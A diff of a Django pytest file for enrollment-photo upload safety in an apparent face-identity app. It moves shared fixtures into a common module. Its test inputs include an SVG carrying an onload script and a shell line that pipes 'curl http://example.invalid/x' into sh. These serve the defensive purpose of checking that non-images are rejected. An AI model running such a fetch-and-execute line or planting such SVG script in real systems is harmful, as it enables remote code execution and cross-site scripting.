@@ -19,13 +19,14 @@ from PIL import Image
 
 from identities import services
 from identities.models import EnrollmentImage, Identity, private_storage
+from tests import photo_fixtures
 from tests.api_helpers import api_client, assert_error
-from tests.shared_data import LFW_IMAGES
-from tests.users import make_user
+from tests.photo_fixtures import lfw_bytes
 
 pytestmark = pytest.mark.django_db
+# Fixtures shared with the other photo tests (pytest finds them in this module's namespace).
+admin_user, person, page_client = photo_fixtures.admin_user, photo_fixtures.person, photo_fixtures.page_client
 
-PASSWORD = "upload-safety-Pa55word!"
 STORED_NAME = re.compile(r"enrollment/[0-9a-f]{4}/[0-9a-f]{32}\.img")
 
 NOT_IMAGES = {
@@ -33,10 +34,6 @@ NOT_IMAGES = {
     "svg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>',
     "script": b"#!/bin/sh\ncurl http://example.invalid/x | sh\n",
 }
-
-
-def lfw_bytes(person: str = "George_W_Bush", n: int = 1) -> bytes:
-    return (LFW_IMAGES / person / f"{person}_{n:04d}.jpg").read_bytes()
 
 
 def as_format(data: bytes, fmt: str, **options) -> bytes:
@@ -54,25 +51,6 @@ def disguised(data: bytes, name: str = "photo.jpg") -> SimpleUploadedFile:
 def files_on_disk() -> set[Path]:
     root = Path(private_storage.location)
     return {path for path in root.rglob("*") if path.is_file()} if root.exists() else set()
-
-
-@pytest.fixture
-def admin_user(django_user_model):
-    return make_user("safety-admin", "admin", password=PASSWORD)
-
-
-@pytest.fixture
-def person(admin_user) -> Identity:
-    identity = services.create_identity(display_name="George W Bush", actor=admin_user)
-    services.record_consent(identity=identity, given_by_name="George W Bush", purpose="building access",
-                            wording_version="v1")
-    return identity
-
-
-@pytest.fixture
-def page_client(client, admin_user):
-    client.login(username=admin_user.username, password=PASSWORD)
-    return client
 
 
 # --- the format comes from the bytes -----------------------------------------------------
